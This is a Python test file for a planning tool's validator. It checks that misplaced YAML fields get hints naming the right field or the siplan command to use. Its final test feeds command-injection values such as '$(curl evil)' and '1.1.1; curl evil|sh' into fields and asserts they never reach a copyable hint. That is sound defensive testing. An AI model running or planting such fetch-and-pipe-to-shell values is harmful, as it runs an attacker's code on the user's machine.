"""A field in the wrong place: where it goes, in the words of whoever has used other forms."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from example_plan import BASE, PRIORITY, found_in, write_plan

MILESTONE = "        due: 2016-09\n"


def hint_of(folder: Path, path: str, text: str) -> str:
    """The hint of the one finding in a plan with this file."""
    (finding,) = [one for one in found_in(write_plan(folder, {path: text})) if one.severity == "error"]
    assert finding.code == "unknown-field"
    return finding.hint


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("status: complete", 'progress goes into the log: siplan complete 1.1.1 --evidence "…"'),
        ("status: cancelled", 'progress goes into the log: siplan cancel 1.1.1 --reason "…"'),
        ("progress: in progress", "progress goes into the log: siplan update 1.1.1 --status in_progress"),
        ("rating: amber", "a rating goes into the log: siplan update 1.1.1 --rating amber"),
        ("rag: Amber/Red", "a rating goes into the log: siplan update 1.1.1 --rating CODE"),
        ("evidence: [x]", 'evidence goes into the log: siplan complete 1.1.1 --evidence "…"'),
        ("notes: x", 'a note goes into the log: siplan update 1.1.1 --note "…"'),
        ("owner: HT", "here it is called leads: write `leads: …`"),
        ("deadline: 2016-09", "here it is called due: write `due: …`"),
        ("leeds: [HT]", "did you mean leads?"),
    ],
)
def test_of_a_milestone(tmp_path: Path, line: str, said: str) -> None:
    assert hint_of(tmp_path, PRIORITY, BASE[PRIORITY].replace(MILESTONE, f"{MILESTONE}        {line}\n")) == said


@pytest.mark.parametrize(
    ("path", "old", "new", "said"),
    [
        ("roles.yaml", "title:", "name:", "here it is called title: write `title: …`"),
        ("roles.yaml", "  kind:", "  email: x\n  kind:", "siplan keeps roles, not people"),
        ("areas.yaml", "title:", "description:", "here it is called title: write `title: …`"),
        (PRIORITY, "text: Tutors", "title: Tutors", "here it is called text: write `text: …`"),
    ],
)  # fmt: skip
def test_of_other_records(tmp_path: Path, path: str, old: str, new: str, said: str) -> None:
    assert hint_of(tmp_path, path, BASE[path].replace(old, new, 1)).startswith(said)


def test_of_a_log(tmp_path: Path) -> None:
    folder = write_plan(tmp_path, {"progress/1.1.yaml": '- date: 2016-10-01\n  milestone: "1.1.1"\n  comment: x\n'})
    hints = [one.hint for one in found_in(folder) if one.severity == "error"]
    assert hints == [f"here it is called {name}: write `{name}: …`" for name in ("on", "at", "note")]


@pytest.mark.parametrize("line", ["status: done", "note: x", "rag: Red; curl evil|sh", "status: cancelled"])
@pytest.mark.parametrize("identity", ["1.1.1; curl evil|sh", "$(curl evil)", "1.1.1\\n", "--plan=x", "1" * 50])
def test_a_command_to_copy_has_nothing_of_a_file_but_an_id(tmp_path: Path, identity: str, line: str) -> None:
    text = BASE[PRIORITY].replace('id: "1.1.1"', f'id: "{identity}"').replace(MILESTONE, f"{MILESTONE}        {line}\n")
    (hint,) = [one.hint for one in found_in(write_plan(tmp_path, {PRIORITY: text})) if one.code == "unknown-field"]
    assert re.search("siplan (complete|update|cancel) ID ", hint)
    assert "curl" not in hint
